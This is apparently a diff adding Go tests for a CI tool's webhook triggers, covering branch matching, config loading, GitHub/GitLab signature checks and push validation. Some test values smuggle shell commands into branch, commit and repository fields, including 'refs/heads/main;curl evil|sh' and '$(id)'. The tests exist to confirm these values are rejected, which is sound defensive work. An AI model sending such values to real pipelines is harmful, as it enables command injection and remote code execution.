@@ -0,0 +1,212 @@
+package pkg
+
+import (
+	"context"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/benjaminstrasser/buildvault/pkg/dockertest"
+)
+
+func TestTriggerMatches(t *testing.T) {
+	trigger := Trigger{Provider: ProviderGitHub, Repository: "org/*", Branches: []string{"main", "release/*"}, Pipeline: "app"}
+	tests := []struct {
+		push Push
+		want bool
+	}{
+		{Push{Provider: ProviderGitHub, Repository: "org/app", Branch: "main"}, true},
+		{Push{Provider: ProviderGitHub, Repository: "org/app", Branch: "release/1.2"}, true},
+		{Push{Provider: ProviderGitHub, Repository: "org/app", Branch: "feature"}, false},
+		{Push{Provider: ProviderGitHub, Repository: "other/app", Branch: "main"}, false},
+		{Push{Provider: ProviderGitLab, Repository: "org/app", Branch: "main"}, false},
+		{Push{Provider: ProviderGitHub, Repository: "org/app"}, false},
+	}
+	for _, test := range tests {
+		if got := trigger.Matches(test.push); got != test.want {
+			t.Errorf("Matches(%+v) = %v, expected %v", test.push, got, test.want)
+		}
+	}
+
+	request := Trigger{Vars: map[string]string{"VERSION": "${branch}-${commit}"}}.runRequest(Push{Branch: "main", Commit: "abc"})
+	if request.Vars["VERSION"] != "main-abc" {
+		t.Errorf("Unexpected variables %v", request.Vars)
+	}
+}
+
+func TestLoadTriggers(t *testing.T) {
+	dir := t.TempDir()
+	valid := filepath.Join(dir, "valid.yaml")
+	os.WriteFile(valid, []byte("triggers:\n  - name: main\n    repository: org/app\n    branches: [main]\n    pipeline: app\n    vars: {VERSION: \"${commit}\"}\n"), 0o644)
+	triggers, err := LoadTriggers(valid)
+	if err != nil || len(triggers) != 1 || triggers[0].Pipeline != "app" || triggers[0].Vars["VERSION"] != "${commit}" {
+		t.Fatalf("Unexpected triggers %+v: %v", triggers, err)
+	}
+
+	for name, content := range map[string]string{
+		"no pipeline": "triggers:\n  - branches: [main]\n",
+		"provider":    "triggers:\n  - pipeline: app\n    provider: bitbucket\n",
+		"pattern":     "triggers:\n  - pipeline: app\n    branches: ['[']\n",
+		"unknown key": "triggers:\n  - pipeline: app\n    branch: main\n",
+	} {
+		file := filepath.Join(dir, "invalid.yaml")
+		os.WriteFile(file, []byte(content), 0o644)
+		var configErr *ConfigError
+		if _, err := LoadTriggers(file); !errors.As(err, &configErr) {
+			t.Errorf("%s: expected a configuration error, got %v", name, err)
+		}
+	}
+}
+
+func TestWebhooks(t *testing.T) {
+	cli := dockertest.New()
+	cli.AddImage(dockertest.Image{Tags: []string{"alpine:latest"}, Files: map[string]string{"/bin/sh": ""}})
+	cli.Exec = func(e *dockertest.Exec) int {
+		if command := e.Cmd[len(e.Cmd)-1]; strings.HasPrefix(command, "build") {
+			e.Stdout.Write([]byte(command + "\n"))
+		}
+		return dockertest.Builtins(e)
+	}
+	server := NewServer(cli, nil)
+	defer server.Close()
+	definition := "vars:\n  VERSION: dev\ntasks:\n  - name: build\n    image: alpine\n    commands: [\"build ${{ vars.VERSION }}\"]\n"
+	if err := server.SubmitPipeline("app", []byte(definition), "buildvault.yaml"); err != nil {
+		t.Fatal(err)
+	}
+	triggers := []Trigger{
+		{Name: "main", Repository: "org/app", Branches: []string{"main"}, Pipeline: "app", Vars: map[string]string{"VERSION": "${branch}-${commit}"}},
+		{Name: "missing", Repository: "org/app", Branches: []string{"main"}, Pipeline: "missing"},
+	}
+	webhooks, err := NewWebhooks(server, "secret", triggers)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hooks := httptest.NewServer(webhooks.Handler())
+	defer hooks.Close()
+
+	deliver := func(path string, headers map[string]string, body string) (*http.Response, []WebhookRun) {
+		req, _ := http.NewRequest("POST", hooks.URL+path, strings.NewReader(body))
+		for key, value := range headers {
+			req.Header.Set(key, value)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var result struct {
+			Runs []WebhookRun `json:"runs"`
+		}
+		json.NewDecoder(resp.Body).Decode(&result)
+		return resp, result.Runs
+	}
+	sign := func(body string) string {
+		mac := hmac.New(sha256.New, []byte("secret"))
+		mac.Write([]byte(body))
+		return "sha256=" + hex.EncodeToString(mac.Sum(nil))
+	}
+
+	push := `{"ref": "refs/heads/main", "after": "abc1230000000000000000000000000000000000", "repository": {"full_name": "org/app"}}`
+	if resp, _ := deliver("/github", map[string]string{"X-GitHub-Event": "push", "X-Hub-Signature-256": sign(push + " ")}, push); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("Expected a delivery with a wrong signature to be rejected, got %s", resp.Status)
+	}
+	if resp, runs := deliver("/github", map[string]string{"X-GitHub-Event": "ping", "X-Hub-Signature-256": sign("{}")}, "{}"); resp.StatusCode != http.StatusOK || len(runs) != 0 {
+		t.Errorf("Expected pings to be acknowledged, got %s %v", resp.Status, runs)
+	}
+	feature := strings.Replace(push, "main", "feature", 1)
+	if resp, runs := deliver("/github", map[string]string{"X-GitHub-Event": "push", "X-Hub-Signature-256": sign(feature)}, feature); resp.StatusCode != http.StatusOK || len(runs) != 0 {
+		t.Errorf("Expected pushes to other branches not to trigger runs, got %s %v", resp.Status, runs)
+	}
+
+	resp, runs := deliver("/github", map[string]string{"X-GitHub-Event": "push", "X-Hub-Signature-256": sign(push)}, push)
+	if resp.StatusCode != http.StatusAccepted || len(runs) != 2 || runs[0].Run == nil || runs[1].Error == "" {
+		t.Fatalf("Unexpected runs %s %+v", resp.Status, runs)
+	}
+	if runs[0].Run.Vars["VERSION"] != "main-abc1230000000000000000000000000000000000" {
+		t.Errorf("Expected the push to be injected into the variables, got %v", runs[0].Run.Vars)
+	}
+	var lines []string
+	server.WatchRun(context.Background(), runs[0].Run.ID, func(event Event) error {
+		lines = append(lines, event.Line)
+		return nil
+	})
+	if !slices.Contains(lines, "build main-abc1230000000000000000000000000000000000") {
+		t.Errorf("Unexpected command output %q", lines)
+	}
+
+	gitlab := `{"ref": "refs/heads/main", "checkout_sha": "def4560000000000000000000000000000000000", "project": {"path_with_namespace": "org/app"}}`
+	if resp, _ := deliver("/gitlab", map[string]string{"X-Gitlab-Event": "Push Hook", "X-Gitlab-Token": "wrong"}, gitlab); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("Expected a delivery with a wrong token to be rejected, got %s", resp.Status)
+	}
+	if resp, runs := deliver("/gitlab", map[string]string{"X-Gitlab-Event": "Push Hook", "X-Gitlab-Token": "secret"}, gitlab); resp.StatusCode != http.StatusAccepted || len(runs) != 2 || runs[0].Run.Vars["VERSION"] != "main-def4560000000000000000000000000000000000" {
+		t.Errorf("Unexpected runs of a GitLab push %s %+v", resp.Status, runs)
+	}
+
+	// Values of a push end up in commands, anything but refs and SHAs is rejected before a run starts
+	for _, injected := range []string{
+		strings.Replace(push, "refs/heads/main", "refs/heads/main;curl evil|sh", 1),
+		strings.Replace(push, "refs/heads/main", "refs/heads/$(id)", 1),
+		strings.Replace(push, "abc123", "abc;id", 1),
+	} {
+		if resp, runs := deliver("/github", map[string]string{"X-GitHub-Event": "push", "X-Hub-Signature-256": sign(injected)}, injected); resp.StatusCode != http.StatusBadRequest || len(runs) != 0 {
+			t.Errorf("Expected %s to be rejected, got %s %v", injected, resp.Status, runs)
+		}
+	}
+}
+
+func TestWebhooksWithoutSecret(t *testing.T) {
+	if _, err := NewWebhooks(nil, "", nil); err == nil {
+		t.Error("Expected webhooks without a secret to be refused")
+	}
+
+	// Even if they are created without one, nothing is accepted unverified
+	hooks := httptest.NewServer((&Webhooks{triggers: []Trigger{{Pipeline: "app"}}}).Handler())
+	defer hooks.Close()
+	push := `{"ref": "refs/heads/main", "after": "0123456789abcdef0123456789abcdef01234567", "repository": {"full_name": "org/app"}}`
+	for path, event := range map[string][2]string{"/github": {"X-GitHub-Event", "push"}, "/gitlab": {"X-Gitlab-Event", "Push Hook"}} {
+		req, _ := http.NewRequest("POST", hooks.URL+path, strings.NewReader(push))
+		req.Header.Set(event[0], event[1])
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusUnauthorized {
+			t.Errorf("Expected an unsigned delivery to %s to be rejected, got %s", path, resp.Status)
+		}
+	}
+}
+
+func TestPushValidate(t *testing.T) {
+	sha := "0123456789abcdef0123456789abcdef01234567"
+	for _, push := range []Push{
+		{Repository: "org/app", Branch: "main", Commit: sha},
+		{Repository: "group/sub/app.go", Branch: "release/1.2_x-y", Commit: sha},
+		{Repository: "org/app", Commit: sha},
+	} {
+		if err := push.Validate(); err != nil {
+			t.Errorf("Expected %+v to be valid, got %v", push, err)
+		}
+	}
+	for _, push := range []Push{
+		{Repository: "org/app", Branch: "main", Commit: "abc123"},
+		{Repository: "org/app", Branch: "main`id`", Commit: sha},
+		{Repository: "org/app", Branch: "-rf", Commit: sha},
+		{Repository: "org/app", Branch: "a..b", Commit: sha},
+		{Repository: "org/app", Branch: "main.lock", Commit: sha},
+		{Repository: "org/app", Branch: "feature branch", Commit: sha},
+		{Repository: "org/app;id", Branch: "main", Commit: sha},
+	} {
+		if err := push.Validate(); err == nil {
+			t.Errorf("Expected %+v to be rejected", push)
+		}
+	}
+}